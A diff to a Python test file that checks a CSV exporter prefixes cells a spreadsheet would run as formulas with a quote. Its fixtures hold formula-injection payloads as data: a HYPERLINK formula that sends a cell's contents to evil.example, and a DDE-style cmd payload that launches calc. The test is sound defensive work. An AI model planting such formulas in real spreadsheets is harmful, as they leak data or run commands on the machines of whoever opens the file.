@@ -4,6 +4,7 @@ and every column is explained by the codebook."""
 from __future__ import annotations
 
 import csv
+import io
 import json
 from pathlib import Path
 from typing import Any
@@ -11,7 +12,7 @@ from typing import Any
 import pytest
 
 from fielddoc.records import schema, vocab
-from fielddoc.records.csv_export import CODEBOOK, SEP, export_csv
+from fielddoc.records.csv_export import CODEBOOK, FORMULA_START, SEP, export_csv, neutralise
 
 DATE_KEYS = {"value", "precision", "is_estimate"}
 
@@ -19,7 +20,7 @@ DATE_KEYS = {"value", "precision", "is_estimate"}
 def read(path: Path) -> list[dict[str, str]]:
     raw = path.read_bytes()
     assert raw.startswith(b"\xef\xbb\xbf"), f"{path.name}: no UTF-8 BOM"
-    return list(csv.DictReader(raw.decode("utf-8-sig").splitlines()))
+    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
 
 
 def header(path: Path) -> list[str]:
@@ -33,12 +34,15 @@ def cell(value: Any) -> str:
         return "true" if value else "false"
     if isinstance(value, int | float):
         return json.dumps(value)
-    return value if isinstance(value, str) else json.dumps(value, ensure_ascii=False, sort_keys=True,
-                                                            separators=(",", ":"))
+    if isinstance(value, str):
+        return neutralise(value)
+    return json.dumps(value, ensure_ascii=False, sort_keys=True, separators=(",", ":"))
 
 
 def split(joined: str) -> list[str]:
     """Undo the documented list encoding: ' | ' between items, '\\|' and '\\\\' inside."""
+    if joined.lstrip("'").startswith(FORMULA_START):  # the documented formula guard
+        joined = joined[1:]
     items, cur, i = [], "", 0
     while i < len(joined):
         if joined[i] == "\\" and i + 1 < len(joined):
@@ -249,3 +253,31 @@ def test_cli_export_csv_warns_and_refuses_to_overwrite(tmp_path):
     r = run("export-csv", "--vault", v, str(out))
     assert r.returncode == 2 and "--force" in r.stderr
     assert run("export-csv", "--vault", v, str(out), "--force").returncode == 0
+
+
+# -- F7: formula injection ----------------------------------------------------------------------
+def test_text_that_a_spreadsheet_would_run_is_neutralised_and_numbers_stay_numbers(rec, tmp_path):
+    rec.create("location", {"id": "loc-x", "name": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+                            "admin1": "@SUM(1+1)*cmd|' /C calc'!A0", "lat": -5, "lon": -0.25,
+                            "precision": "-2+3", "notes": "\tTAB", "tz": "Asia/Aqtau",
+                            "iso3166_2": "KZ-47", "country": "KZ"})
+    rec.create("person", {"id": "per-x", "name": "+7 701 555 0199", "other_names": ["-1", "ok"],
+                          "occupation": "\r=1+1", "notes": "'=already quoted"})
+    rec.create("person", {"id": "per-y", "name": "'Armand' and plain text", "other_names": ["a-b", "=c"],
+                          "occupation": "a=b", "notes": "5 - 3"})
+    export_csv(rec, tmp_path / "csv")
+    loc = next(r for r in read(tmp_path / "csv" / "locations.csv") if r["id"] == "loc-x")
+    assert loc["name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
+    assert loc["admin1"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert loc["precision"] == "'-2+3" and loc["notes"] == "'\tTAB"
+    assert loc["lat"] == "-5" and loc["lon"] == "-0.25"  # true numbers are left as numbers
+    people = {r["id"]: r for r in read(tmp_path / "csv" / "persons.csv")}
+    x, y = people["per-x"], people["per-y"]
+    assert x["name"] == "'+7 701 555 0199" and x["occupation"] == "'\r=1+1"
+    assert x["other_names"] == "'-1 | ok"  # a list cell is text: its first item decides
+    assert x["notes"] == "''=already quoted"  # so that stripping one quote gives the text back
+    assert y["name"] == "'Armand' and plain text" and y["other_names"] == "a-b | =c"
+    assert y["occupation"] == "a=b" and y["notes"] == "5 - 3"
+    for row in (loc, x, y):  # the documented rule undoes it
+        for value in row.values():
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")) or value in ("-5", "-0.25")
